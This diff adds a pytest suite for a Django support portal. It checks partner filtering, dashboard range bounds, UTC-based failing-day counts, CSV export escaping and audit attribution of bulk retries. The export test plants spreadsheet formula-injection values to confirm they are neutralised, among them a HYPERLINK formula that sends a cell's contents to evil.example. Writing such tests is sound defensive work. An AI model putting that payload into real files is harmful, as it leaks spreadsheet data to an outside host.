@@ -1,0 +1,147 @@
+"""What a support agent's test of the portal found (issue 12), each kept
+fixed: the operator's partner column and filter on runs and push items, the
+dashboard's range bounds, failing days counted the same in every viewer's
+zone, exports a spreadsheet cannot run, and a support user's bulk retry
+audited as them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+import pytest
+from django.contrib.auth.models import Permission
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+
+from commerce_sync.core.models import AuditLog, PushItem, SyncRun
+from commerce_sync.core.services.demo import demo_seed
+from commerce_sync.syncs.runs import sync_run_execute
+from portal.models import PartnerMembership
+from portal.selectors import failing_merchant_ids
+from tests.factories import MerchantFactory, SyncRunFactory
+from tests.portal.conftest import build_world
+
+ROW = re.compile(r'<tr>\s*<td class="action-checkbox">.*?</tr>', re.S)
+
+
+def _rows(page: str) -> list[str]:
+    return ROW.findall(page)
+
+
+@pytest.mark.parametrize("listing", ["/portal/core/syncrun/", "/portal/core/pushitem/"])
+def test_operators_see_and_filter_the_partner_of_runs_and_items_in_constant_queries(
+    listing, worlds, support_a, admin_client, client
+):
+    a, b = worlds
+    with CaptureQueriesContext(connection) as two_partners:
+        page = admin_client.get(listing).content.decode()
+    rows = _rows(page)
+    assert rows and all(
+        (a.partner.name in row) != (b.partner.name in row) for row in rows
+    )  # each row names its own partner
+    assert "column-partner_name" in page and "merchant__partner__id__exact" in page
+
+    build_world("Charlie", timezone.now())  # more partners, merchants, runs and items
+    with CaptureQueriesContext(connection) as three_partners:
+        more = admin_client.get(listing).content.decode()
+    assert len(_rows(more)) > len(rows) and "Charlie Partner" in more
+    assert len(three_partners) == len(two_partners)  # no query per row or per partner
+
+    only_b = admin_client.get(f"{listing}?merchant__partner__id__exact={b.partner.pk}")
+    b_rows = _rows(only_b.content.decode())
+    assert b_rows and all(b.partner.name in row for row in b_rows)
+
+    client.force_login(support_a)  # a support user: neither the column nor the filter
+    own = client.get(listing).content.decode()
+    assert "column-partner_name" not in own and "merchant__partner" not in own
+
+
+@pytest.mark.parametrize(
+    ("query", "said"),
+    [
+        ("to=9999-12-31", "is in the future: showing up to today"),
+        ("from=0001-01-01", "The dashboard shows at most 366 days"),
+        ("to=0001-01-01", "The range is out of bounds"),
+        ("failing_days=0", "Failing for &#x27;0&#x27; days is not 1 to 366"),
+    ],
+)
+def test_the_dashboards_range_is_bounded_and_says_so(query, said, worlds, support_a, client):
+    """Once a 500 (OverflowError) for to=9999-12-31, and a 5.6 MB page of
+    739,000 bars for from=0001-01-01."""
+    client.force_login(support_a)
+    response = client.get(f"/portal/?{query}")
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert said in page
+    assert page.count("<title>") - 1 <= 4 * 367  # a bar segment per status and day at most
+
+
+def test_failing_days_are_utc_days_whatever_the_viewers_zone(db, django_user_model):
+    """Two failures on two UTC days are one day in Kiritimati (UTC+14): the
+    count of a merchant's failing days once followed the viewer's zone."""
+    operator = django_user_model.objects.create_superuser("op", password="pw-op-12345")
+    merchant = MerchantFactory(configured=True)
+    for created in (datetime(2026, 11, 28, 11, tzinfo=UTC), datetime(2026, 11, 29, 9, tzinfo=UTC)):
+        SyncRunFactory(merchant=merchant, status="failed", status_code=5130, created_at=created)
+    end = datetime(2026, 11, 30, 12, tzinfo=UTC)
+    for zone in ("UTC", "Pacific/Kiritimati", "Pacific/Pago_Pago"):
+        with timezone.override(zone):
+            ids = list(failing_merchant_ids(user=operator, end=end, days=2))
+        assert ids == [merchant.pk], zone
+
+
+def test_exports_are_text_to_a_spreadsheet_never_formulas(worlds, support_a, client):
+    a, _b = worlds
+    a.failing.name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    a.failing.external_id = "+1-merchant"
+    a.failing.save(update_fields=["name", "external_id"])
+    PushItem.objects.filter(merchant=a.failing).update(last_error="@SUM(1+1)")
+    client.force_login(support_a)
+    merchants = client.post(
+        "/portal/core/merchant/", {"action": "export_csv", "_selected_action": [str(a.failing.pk)]}
+    )
+    (row,) = list(csv.DictReader(io.StringIO(merchants.content.decode())))
+    assert row["name"] == "'" + a.failing.name and row["external_id"] == "'+1-merchant"
+    assert row["enabled"] == "True"  # values that are not text are as they were
+    items = client.post(
+        "/portal/core/pushitem/",
+        {
+            "action": "export_csv",
+            "_selected_action": [str(i.pk) for i in PushItem.objects.filter(merchant=a.failing)],
+        },
+    )
+    errors = {row["last_error"] for row in csv.DictReader(io.StringIO(items.content.decode()))}
+    assert errors == {"'@SUM(1+1)"}
+
+
+def test_a_support_users_bulk_retry_is_audited_as_them(db, settings, tmp_path, client):
+    """The list's "Retry the failed push items" action once audited a
+    support user as operator:<username>."""
+    settings.LEDGER_DIR = str(tmp_path / "ledgers")
+    seed = demo_seed(days=1, orders_per_day=3, today=date(2026, 11, 10))
+    run = sync_run_execute(merchant=seed.merchant, now=datetime(2026, 11, 10, 9, tzinfo=UTC))
+    Path(seed.ledger_path).write_text(
+        Path(seed.ledger_path).read_text().split("\n2026-11-09 *")[0] + "\n"
+    )
+    PushItem.objects.filter(sync_run=run).update(status="failed", target_id="", last_error="x")
+    SyncRun.objects.filter(pk=run.pk).update(status="failed", status_code=5130)
+    from django.contrib.auth import get_user_model
+
+    agent = get_user_model().objects.create_user("agent", password="pw-agent-123", is_staff=True)
+    PartnerMembership.objects.create(user=agent, partner=seed.merchant.partner)
+    agent.user_permissions.add(Permission.objects.get(codename="retry_syncrun"))
+    client.force_login(agent)
+    client.post(
+        "/portal/core/syncrun/",
+        {"action": "retry_failed_items", "_selected_action": [str(run.pk)]},
+    )
+    retry = AuditLog.objects.get(action="sync_run.retry_failed", object_id=str(run.pk))
+    assert retry.actor == f"support:{seed.merchant.partner.slug}:agent"
+    assert PushItem.objects.get(sync_run=run).status == "pushed"
+    assert not AuditLog.objects.filter(actor__startswith="operator:").exists()
+    assert timedelta(0) <= timezone.now() - retry.at < timedelta(minutes=5)
